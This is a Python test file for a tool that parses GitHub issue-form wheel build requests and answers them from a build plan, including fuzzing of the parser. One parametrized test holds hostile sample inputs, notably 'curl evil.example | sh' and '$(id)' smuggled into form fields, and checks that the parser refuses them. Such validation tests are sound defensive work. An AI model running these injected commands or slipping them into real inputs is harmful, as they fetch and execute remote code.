"""Wheel requests: the issue form's text is hostile input; the answer comes from the plan."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.roots import REPO
from wheelfarm.cli import main
from wheelfarm.core.errors import UsageError
from wheelfarm.matrix.expand import Cell, expand
from wheelfarm.matrix.load import load_matrix
from wheelfarm.matrix.plan import make_plan
from wheelfarm.request import (
    ANSWERED,
    SHAPES,
    Request,
    answer,
    answered_block,
    read_answered,
    read_form,
)

LABELS = {"package": "Package", "version": "Version", "torch": "torch", "cuda": "CUDA",
          "python": "Python", "platform": "Platform"}  # fmt: skip


def form(**answers: str) -> str:
    """An issue body as GitHub renders the form: a `### Label` heading above each answer."""
    return "".join(f"### {LABELS[k]}\n\n{v}\n\n" for k, v in answers.items())


def form_of(cell: Cell) -> str:
    return form(package=cell.package, version=cell.version, torch=cell.torch, cuda=cell.cuda,
                python=cell.python, platform=cell.platform)  # fmt: skip


MATRIX = load_matrix(REPO)
EXPANSION = expand(MATRIX)
BUILD = EXPANSION.builds[0]
CELL = BUILD.covers[0]


def test_a_form_reads_into_the_plans_cell() -> None:
    request = read_form(form_of(CELL))
    assert request.cell_id == CELL.id


def test_a_planned_cell_is_queued_with_its_tier() -> None:
    reply = answer(make_plan(MATRIX, EXPANSION), read_form(form_of(CELL)))
    assert reply.planned and reply.text.startswith("Planned, tier 3, queued (")


def test_a_published_cell_names_its_release() -> None:
    plan = make_plan(MATRIX, EXPANSION, existing={BUILD.id})
    reply = answer(plan, read_form(form_of(CELL)))
    assert not reply.planned
    assert reply.text.startswith(f"Published in release {CELL.package}-v{BUILD.version} (")


def test_an_excluded_cell_says_the_plans_reason() -> None:
    excluded = EXPANSION.excluded[0]
    reply = answer(make_plan(MATRIX, EXPANSION), read_form(form_of(excluded.cell)))
    assert not reply.planned
    assert reply.text == f"Not planned: {excluded.cell.id}: excluded by {excluded.rule}"


def test_an_unknown_version_is_not_planned() -> None:
    body = form_of(CELL).replace(f"\n{CELL.version}\n", "\n999.0\n")
    reply = answer(make_plan(MATRIX, EXPANSION), read_form(body))
    assert not reply.planned and reply.text.startswith("Not planned: ")
    assert "is no cell of this matrix" in reply.text


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("package", "flash-attn @everyone"),
        ("package", "[x](https://evil.example)"),
        ("version", "2.8.3\n### CUDA\n\ncu130"),
        ("cuda", "cu130; curl evil.example | sh"),
        ("platform", "linux_x86_64`$(id)`"),
        ("python", "_No response_"),
    ],
)
def test_a_hostile_answer_is_refused_by_its_label(field: str, value: str) -> None:
    answers = {k: getattr(CELL, k) for k in LABELS} | {field: value}
    with pytest.raises(UsageError, match=r"^the request's [a-z]+ is (missing or not|answered)"):
        read_form(form(**answers))


def test_a_missing_answer_is_refused() -> None:
    with pytest.raises(UsageError, match=r"^the request's package is missing"):
        read_form("Please build flash-attn for me!")


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400) | st.builds(form, package=st.text(), version=st.text(),
       torch=st.text(), cuda=st.text(), python=st.text(), platform=st.text()))  # fmt: skip
def test_any_body_reads_into_shaped_fields_or_one_usage_error(body: str) -> None:
    """Nothing the requester wrote reaches the reply or the dispatch unless it has the shape
    the plan uses; everything else is one UsageError naming the field, not its text."""
    try:
        request = read_form(body)
    except UsageError as exc:
        error = str(exc)
    else:
        error = ""
    if error:
        assert error.startswith("the request's ") and "\n" not in error
        return
    for key, (shape, _) in SHAPES.items():
        assert shape.fullmatch(getattr(request, key))
    assert request.cell_id.isascii() and request.cell_id.isprintable()


def test_the_command_answers_and_writes_the_selection(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    body = tmp_path / "body.md"
    body.write_text(form_of(CELL), encoding="utf-8")
    out = tmp_path / "github_output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(out))
    args = ["request", "--root", str(REPO.path), "--body-file", str(body), "--github-output"]
    assert main(args) == 0
    assert capsys.readouterr().out.startswith("Planned, tier 3, queued (")
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines == ["planned=true", f"package={CELL.package}", f"version={CELL.version}",
                     f"cuda={CELL.cuda}",
                     f"torch={CELL.torch}", f"python={CELL.python}", f"platform={CELL.platform}"]  # fmt: skip


def test_request_is_a_dataclass_of_the_six_answers() -> None:
    assert set(Request.__dataclass_fields__) == set(SHAPES) == set(LABELS)


def test_the_answer_comment_reads_back_the_cell_it_answered(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 49 row 5: `--comment` ends the answer with the cell, hidden; `--answered` builds
    that cell whatever the issue says by then (its form is not read)."""
    body = tmp_path / "body.md"
    body.write_text(form_of(CELL), encoding="utf-8")
    root = ["request", "--root", str(REPO.path)]
    assert main([*root, "--body-file", str(body), "--comment"]) == 0
    comment = capsys.readouterr().out
    assert comment.startswith("Planned, tier 3, queued (") and comment.count(ANSWERED) == 1
    assert comment.endswith("-->\n") and "\n### package\n" in comment.split(ANSWERED)[1]
    saved = tmp_path / "answer.md"
    saved.write_text("<!-- wheelfarm request answer -->\n" + comment, encoding="utf-8")
    assert main([*root, "--body-file", str(saved), "--answered"]) == 0
    assert capsys.readouterr().out.startswith("Planned, tier 3, queued (")
    assert read_answered(comment) == read_form(form_of(CELL))


def test_an_answer_without_a_cell_is_refused_naming_the_fix() -> None:
    with pytest.raises(UsageError, match=r"names no cell .* add the build-request label again"):
        read_answered("wheelfarm request: error: the request's package is missing")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300), st.text(max_size=300))
def test_any_answer_comment_reads_into_a_shaped_cell_or_one_usage_error(
    before: str, inside: str
) -> None:
    """The comment is read back as hostile text too: only the shapes the plan uses leave it."""
    try:
        request = read_answered(f"{before}{ANSWERED}\n{inside}-->")
    except UsageError as exc:
        error = str(exc)
    else:
        error = ""
        assert all(shape.fullmatch(getattr(request, k)) for k, (shape, _) in SHAPES.items())
    assert not error or (error.startswith("the request's ") and "\n" not in error)


def test_a_cell_survives_its_block() -> None:
    request = read_form(form_of(CELL))
    assert read_answered("Planned.\n\n" + answered_block(request)) == request
